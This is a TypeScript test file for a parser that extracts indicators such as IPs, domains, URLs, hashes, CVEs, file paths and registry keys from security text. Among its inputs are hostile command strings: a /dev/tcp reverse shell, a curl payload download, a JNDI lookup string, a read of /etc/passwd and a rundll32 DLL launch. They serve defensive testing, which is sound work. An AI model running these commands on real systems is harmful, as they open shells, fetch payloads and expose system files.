import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { observableTypes } from '../../../src/enrichment.ts';
import { findObservables, readObservable } from '../../../src/language/observables/find-observables.ts';
import { anyText } from '../any-text.ts';

const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
const guid = '0c6a50cf-b1b6-4bfd-ad54-b9822b06ff92';

/** `type value` of each, in the order of the text. */
function found(text: string): readonly string[] {
  return findObservables(text).observables.map(({ type, value }) => `${type} ${value}`);
}

describe('finding observables', () => {
  it.each<[text: string, ...expected: string[]]>([
    // Addresses
    ['203.0.113.7', 'ipv4 203.0.113.7'],
    ['from 203.0.113.7.', 'ipv4 203.0.113.7'],
    ['(203.0.113.7)', 'ipv4 203.0.113.7'],
    ['src=203.0.113.7;spt=443', 'ipv4 203.0.113.7'],
    ['SRC:203.0.113.7:51234->198.51.100.4:443', 'ipv4 203.0.113.7', 'ipv4 198.51.100.4'],
    ['203.0.113.7-203.0.113.20', 'ipv4 203.0.113.7', 'ipv4 203.0.113.20'],
    ['outside:203.0.113.7/54321 to inside', 'ipv4 203.0.113.7'],
    ['203.0.113.7/tcp', 'ipv4 203.0.113.7'],
    ['root@203.0.113.7', 'ipv4 203.0.113.7'],
    ['HTTP/203.0.113.7', 'ipv4 203.0.113.7'],
    ['localhost/127.0.0.1:8080', 'ipv4 127.0.0.1'],
    ['client 203.0.113.7 connected', 'ipv4 203.0.113.7'],
    ['HTTP/1.1 from 203.0.113.7', 'ipv4 203.0.113.7'],
    ['a=%20;b=203.0.113.7%20', 'ipv4 203.0.113.7'],
    ['2001:DB8:0:0::1', 'ipv6 2001:db8::1'],
    ['2001:db8:0:0:0:0:0:1', 'ipv6 2001:db8::1'],
    ['[2001:db8::1]:443', 'ipv6 2001:db8::1'],
    ['[IPv6:2001:db8::1]', 'ipv6 2001:db8::1'],
    ['from 2001:db8::1: refused', 'ipv6 2001:db8::1'],
    ['seen at 2001:db8::1.', 'ipv6 2001:db8::1'],
    ['fe80::1%eth0', 'ipv6 fe80::1'],
    ['2606:2800:220:1:248:1893:25c8:1946', 'ipv6 2606:2800:220:1:248:1893:25c8:1946'],
    ['::1 localhost', 'ipv6 ::1'],
    ['::ffff:203.0.113.7', 'ipv4 203.0.113.7'],
    ['203.0.113.0/24', 'cidr 203.0.113.0/24'],
    ['10.0.0.0/8', 'cidr 10.0.0.0/8'],
    ['203.0.113.77/24', 'cidr 203.0.113.0/24'],
    ['203.0.113.7/32', 'ipv4 203.0.113.7'],
    ['ip4:203.0.113.0/24 ip6:2001:db8::/32', 'cidr 203.0.113.0/24', 'cidr 2001:db8::/32'],
    ['2001:DB8:ffff::1/32', 'cidr 2001:db8::/32'],
    // Domains
    ['evil.example', 'domain evil.example'],
    ['EVIL.Example.COM', 'domain evil.example.com'],
    ['www.evil.co.uk', 'domain www.evil.co.uk'],
    ['evil.example:8443', 'domain evil.example'],
    ['*.evil.example', 'domain evil.example'],
    ['_dmarc.evil.example', 'domain _dmarc.evil.example'],
    ['münchen.de', 'domain xn--mnchen-3ya.de'],
    ['xn--mnchen-3ya.de', 'domain xn--mnchen-3ya.de'],
    ['пример.рф', 'domain xn--e1afmkfd.xn--p1ai'],
    ['раypal.com', 'domain xn--ypal-43d9g.com'],
    ['例え.jp', 'domain xn--r8jz45g.jp'],
    ['访问evil.com下载', 'domain evil.com'],
    ['访问 evil.com。然后', 'domain evil.com'],
    ['update.top and login-1.online', 'domain update.top', 'domain login-1.online'],
    ['from mail.evil.top[203.0.113.7]', 'domain mail.evil.top', 'ipv4 203.0.113.7'],
    ['relay=mx.evil.example(203.0.113.7)', 'domain mx.evil.example', 'ipv4 203.0.113.7'],
    ['dig evil.top && exit', 'domain evil.top'],
    ['cdn.payload.zip', 'domain cdn.payload.zip'],
    ['contoso.com/fabrikam.com', 'domain contoso.com', 'domain fabrikam.com'],
    ['evil.example/203.0.113.7:443', 'domain evil.example', 'ipv4 203.0.113.7'],
    ['HTTP/web01.contoso.com', 'domain web01.contoso.com'],
    ['CONTOSO.COM\\ann', 'domain contoso.com'],
    ['git@github.com:owner/name.git', 'domain github.com'],
    ['4.3.2.1.in-addr.arpa', 'domain 4.3.2.1.in-addr.arpa'],
    ['GitHub.com', 'domain github.com'],
    // URLs
    ['https://evil.example', 'url https://evil.example/'],
    ['HTTPS://EVIL.Example:443/A?b=C#d', 'url https://evil.example/A?b=C#d'],
    ['(https://evil.example/a_(b))', 'url https://evil.example/a_(b)'],
    ['see https://evil.example/a, and', 'url https://evil.example/a'],
    ['https://evil.example/a?x=1,2;3.', 'url https://evil.example/a?x=1,2;3'],
    ['https://a.example/,https://b.example/', 'url https://a.example/', 'url https://b.example/'],
    ['2026-01-02,https://evil.example/a,200', 'url https://evil.example/a'],
    ["href='https://evil.example/a'", 'url https://evil.example/a'],
    ['https://user:pw@evil.example/a', 'url https://user:pw@evil.example/a'],
    ['http://203.0.113.7:8080/a', 'url http://203.0.113.7:8080/a'],
    ['http://[2001:db8::1]/a', 'url http://[2001:db8::1]/a'],
    ['http://3405803783/', 'url http://203.0.113.7/'],
    ['https://münchen.de/straße', 'url https://xn--mnchen-3ya.de/stra%C3%9Fe'],
    ['tcp://evil.example:4444', 'url tcp://evil.example:4444'],
    ['ftp://evil.example/x', 'url ftp://evil.example/x'],
    ['wss://evil.example/x', 'url wss://evil.example/x'],
    ['{jndi:ldap://evil.example/a}', 'url ldap://evil.example/a'],
    ['http://dc01.corp.local/x', 'url http://dc01.corp.local/x'],
    ['evil.example/gate.php?x=1', 'url http://evil.example/gate.php?x=1'],
    ['203.0.113.7/a.exe', 'url http://203.0.113.7/a.exe'],
    ['evil.example:8080/x', 'url http://evil.example:8080/x'],
    ['evil.example/', 'domain evil.example'],
    ['//cdn.evil.example', 'domain cdn.evil.example'],
    [
      'https://safe.example/?url=https%3A%2F%2Fevil.example%2Fa&d=1',
      'url https://safe.example/?url=https%3A%2F%2Fevil.example%2Fa&d=1',
    ],
    // E-mail addresses
    ['Ann.B+c@Contoso.COM', 'email Ann.B+c@contoso.com'],
    ["O'Brien@contoso.com", "email O'Brien@contoso.com"],
    ['mailto:ann@contoso.com?subject=x', 'email ann@contoso.com'],
    ['ann_x.example#EXT#@contoso.onmicrosoft.com', 'email ann_x.example#EXT#@contoso.onmicrosoft.com'],
    ['bounce+ann=x.example@y.example', 'email bounce+ann=x.example@y.example'],
    ['jürgen@münchen.de', 'email jürgen@xn--mnchen-3ya.de'],
    ['<ann@payload.zip>', 'email ann@payload.zip'],
    // Hashes, names, numbers
    [md5.toUpperCase(), `md5 ${md5}`],
    [`MD5=${md5},SHA1=${sha1},SHA256=${sha256}`, `md5 ${md5}`, `sha1 ${sha1}`, `sha256 ${sha256}`],
    [`sha256:${sha256}`, `sha256 ${sha256}`],
    [`${sha256}  setup.exe`, `sha256 ${sha256}`],
    ['cve-2024-3094', 'cve CVE-2024-3094'],
    ['(CVE-2021-44228)', 'cve CVE-2021-44228'],
    ['cve_2021_44228_poc.py', 'cve CVE-2021-44228'],
    ['CVE‑2021‑44228', 'cve CVE-2021-44228'],
    ['AS13335', 'asn AS13335'],
    ['ASN13335, as64500', 'asn AS13335', 'asn AS64500'],
    ['ASN 13335; ASN: 64500; AS 64501', 'asn AS13335', 'asn AS64500', 'asn AS64501'],
    // Paths and keys
    ['ran C:\\Windows\\System32\\cmd.exe /c dir', 'file-path C:\\Windows\\System32\\cmd.exe'],
    ['c:/Users/ann/x.exe', 'file-path C:\\Users\\ann\\x.exe'],
    ['C:\\Program Files (x86)\\Foo Bar\\evil.exe -x', 'file-path C:\\Program Files (x86)\\Foo Bar\\evil.exe'],
    ['"C:\\Users\\ann\\my report.docx" /o', 'file-path C:\\Users\\ann\\my report.docx'],
    ['"C:\\Windows\\cmd.exe /c whoami"', 'file-path C:\\Windows\\cmd.exe'],
    ['dropped C:\\a\\b.txt, C:\\c\\d.dll.', 'file-path C:\\a\\b.txt', 'file-path C:\\c\\d.dll'],
    ['rundll32 C:\\x\\evil.dll,Start', 'file-path C:\\x\\evil.dll'],
    ['\\\\srv01\\share$\\x.ps1', 'file-path \\\\srv01\\share$\\x.ps1'],
    ['\\\\evil.example@SSL\\DavWWWRoot\\x', 'file-path \\\\evil.example@SSL\\DavWWWRoot\\x'],
    ['%TEMP%\\a.dll', 'file-path %TEMP%\\a.dll'],
    ['\\Device\\HarddiskVolume3\\Windows\\x.exe', 'file-path \\Device\\HarddiskVolume3\\Windows\\x.exe'],
    ['file:///C:/x/y.exe', 'file-path C:\\x\\y.exe'],
    ['C:\\Users\\.ssh\\id_rsa', 'file-path C:\\Users\\.ssh\\id_rsa'],
    ['C:\\tools\\new.exe "x"', 'file-path C:\\tools\\new.exe'],
    ['cat /etc/passwd | head', 'file-path /etc/passwd'],
    ['PATH=/usr/bin:/usr/local/bin', 'file-path /usr/bin', 'file-path /usr/local/bin'],
    ['~/.ssh/authorized_keys', 'file-path ~/.ssh/authorized_keys'],
    ['bash -i >& /dev/tcp/203.0.113.7/4444', 'ipv4 203.0.113.7'],
    ['HKLM\\Software\\Run', 'registry-key HKEY_LOCAL_MACHINE\\Software\\Run'],
    [
      'hkey_current_user\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run was set',
      'registry-key HKEY_CURRENT_USER\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run',
    ],
    ['HKCU:\\Software\\X', 'registry-key HKEY_CURRENT_USER\\Software\\X'],
    ['\\REGISTRY\\MACHINE\\SOFTWARE\\X', 'registry-key HKEY_LOCAL_MACHINE\\SOFTWARE\\X'],
    [
      `on /subscriptions/${guid}/resourceGroups/Rg/providers/Microsoft.Compute/virtualMachines/Vm1.`,
      `azure-resource /subscriptions/${guid}/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm1`,
    ],
    [`/subscriptions/${guid}`, `azure-resource /subscriptions/${guid}`],
  ])('finds what is in %j', (text, ...expected) => {
    expect(found(text)).toEqual(expected);
  });

  it.each<[kind: string, text: string, ...expected: string[]]>([
    [
      'JSON',
      '{"url":"https:\\/\\/evil.example\\/a\\u0026b=1","ip":"203.0.113.7","path":"C:\\\\Users\\\\x.exe"}',
      'url https://evil.example/a&b=1',
      'ipv4 203.0.113.7',
      'file-path C:\\Users\\x.exe',
    ],
    [
      'JSON with escaped line breaks',
      '"see evil.example\\nnext.example\\r\\n203.0.113.7"',
      'domain evil.example',
      'domain next.example',
      'ipv4 203.0.113.7',
    ],
    [
      'JSON in JSON',
      '"{\\"u\\":\\"https:\\\\/\\\\/evil.example\\\\/a\\",\\"p\\":\\"C:\\\\\\\\Temp\\\\\\\\x.exe\\"}"',
      'url https://evil.example/a',
      'file-path C:\\Temp\\x.exe',
    ],
    ['a code block', '```\ncurl -O http://203.0.113.7/x.sh\n```', 'url http://203.0.113.7/x.sh'],
    ['inline code', '`evil.example` and `203.0.113.7`', 'domain evil.example', 'ipv4 203.0.113.7'],
    [
      'a Markdown table',
      '| host | ip |\n|---|---|\n|evil.example|203.0.113.7|',
      'domain evil.example',
      'ipv4 203.0.113.7',
    ],
    ['a Markdown link', '[here](https://evil.example/a)', 'url https://evil.example/a'],
    [
      'a Markdown link that says where it goes',
      '[https://evil.example/a](https://evil.example/a)',
      'url https://evil.example/a',
    ],
    [
      'Slack',
      '<https://evil.example/a|evil.example/a> <mailto:ann@evil.example|ann@evil.example>',
      'url https://evil.example/a',
      'url http://evil.example/a',
      'email ann@evil.example',
    ],
    [
      'HTML',
      '<td>203.0.113.7</td><a href="https://evil.example/?a=1&amp;b=2">x</a>',
      'ipv4 203.0.113.7',
      'url https://evil.example/?a=1&b=2',
    ],
    [
      'a mail header',
      'Received: from mail.evil.example (unknown [203.0.113.7])\n by mx.contoso.example with ESMTP id 4Xx; Mon, 2 Feb 2026 12:30:45 +0000\nMessage-ID: <20260202.abc@mail.evil.example>\nFrom: "Ann" <ann@evil.example>',
      'domain mail.evil.example',
      'ipv4 203.0.113.7',
      'domain mx.contoso.example',
      'email ann@evil.example',
    ],
    [
      'an access log',
      '203.0.113.7 - - [02/Feb/2026:12:30:45 +0000] "GET /home/a.php?v=1.2.3 HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.1 Safari/537.36"',
      'ipv4 203.0.113.7',
    ],
    [
      'CSV',
      '1,203.0.113.7,evil.example,"https://evil.example/a,b"',
      'ipv4 203.0.113.7',
      'domain evil.example',
      'url https://evil.example/a,b',
    ],
    [
      'a firewall',
      'IN=eth0 MAC=00:16:3e:5e:6c:00:00:1a SRC=203.0.113.7 DST=10.0.0.4 SPT=4444',
      'ipv4 203.0.113.7',
      'ipv4 10.0.0.4',
    ],
  ])('finds what is in %s', (_kind, text, ...expected) => {
    expect(found(text)).toEqual(expected);
  });

  it('tells each once, as it was written first, and where', () => {
    const text = 'C2 203[.]0[.]113[.]7, again 203.0.113.7; EVIL.example evil[.]example';
    expect(findObservables(text)).toEqual({
      observables: [
        { type: 'ipv4', value: '203.0.113.7', found: '203[.]0[.]113[.]7', at: 3 },
        { type: 'domain', value: 'evil.example', found: 'EVIL.example', at: 41 },
      ],
      more: 0,
    });
  });

  it('takes a host within a URL or an e-mail address for a part of it, unless it stands alone too', () => {
    expect(found('https://evil.example/a ann@evil.example')).toEqual([
      'url https://evil.example/a',
      'email ann@evil.example',
    ]);
    expect(found('https://evil.example/a evil.example')).toEqual([
      'url https://evil.example/a',
      'domain evil.example',
    ]);
  });

  it('finds GUIDs only where they are asked for, and nothing but what is asked for', () => {
    const text = `${guid} {${guid.toUpperCase()}} 203.0.113.7`;
    expect(found(text)).toEqual(['ipv4 203.0.113.7']);
    expect(findObservables(text, { types: ['guid'] }).observables.map(({ value }) => value)).toEqual([guid]);
    expect(
      findObservables('https://evil.example/ b.example', { types: ['domain'] }).observables,
    ).toMatchObject([{ value: 'b.example' }]);
  });

  it('counts what is beyond the limit', () => {
    const text = Array.from({ length: 300 }, (_, n) => `203.0.${n % 256}.${n}`.replace(/\d{3,}$/, '9')).join(
      ' ',
    );
    const all = findObservables(text).observables.length;
    expect(findObservables(text, { limit: 100 })).toMatchObject({ more: all - 100 });
    expect(findObservables(text, { limit: 100 }).observables).toEqual(
      findObservables(text).observables.slice(0, 100),
    );
  });

  it('finds five thousand in one text', () => {
    const many = Array.from({ length: 5_000 }, (_, n) => `host-${n}[.]evil[.]example`);
    expect(found(many.join(' '))).toHaveLength(5_000);
  });

  it('says of any text where what it found stands, in order, of a known type', () => {
    const pieces = fc.constantFrom(
      'evil',
      '.',
      '[.]',
      'example',
      '203.0.113.7',
      '@',
      '://',
      'hxxp',
      ' ',
      '\\',
      '/',
      '"',
      ':',
      '%',
      '\n',
      'é',
      '。',
      '\u200b',
      'C:\\',
      'a',
      '1',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          anyText,
          fc.array(pieces).map((parts) => parts.join('')),
        ),
        (text) => {
          let last = -1;
          for (const { type, found: written, at } of findObservables(text, { types: observableTypes })
            .observables) {
            expect(text.slice(at, at + written.length)).toBe(written);
            expect(written).not.toBe('');
            expect(at).toBeGreaterThan(last);
            expect(observableTypes).toContain(type);
            last = at;
          }
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it('finds a value again in itself', () => {
    const values = [
      '203.0.113.7',
      '2001:db8::1',
      '203.0.113.0/24',
      '2001:db8::/32',
      'xn--mnchen-3ya.de',
      'https://evil.example/a?b=1',
      'ann@evil.example',
      md5,
      sha1,
      sha256,
      'CVE-2024-3094',
      'AS13335',
      'C:\\Windows\\x.exe',
      '\\\\srv\\share\\x',
      'HKEY_LOCAL_MACHINE\\Software\\X',
      `/subscriptions/${guid}/resourcegroups/rg`,
    ];
    for (const value of values) expect(readObservable(value)?.value).toBe(value);
  });
});

describe('reading one word', () => {
  it.each<[word: string, expected: string | undefined]>([
    ['hxxps://evil[.]example/a', 'url https://evil.example/a'],
    [' 203[.]0[.]113[.]7 ', 'ipv4 203.0.113.7'],
    ['evil.example', 'domain evil.example'],
    ['203.0.113.7:443', undefined],
    ['203.0.113.7 evil.example', undefined],
    ['bob', undefined],
    ['', undefined],
    ['setup.exe', undefined],
  ])('takes %j for %s', (word, expected) => {
    const observable = readObservable(word);
    expect(observable && `${observable.type} ${observable.value}`).toBe(expected);
  });
});
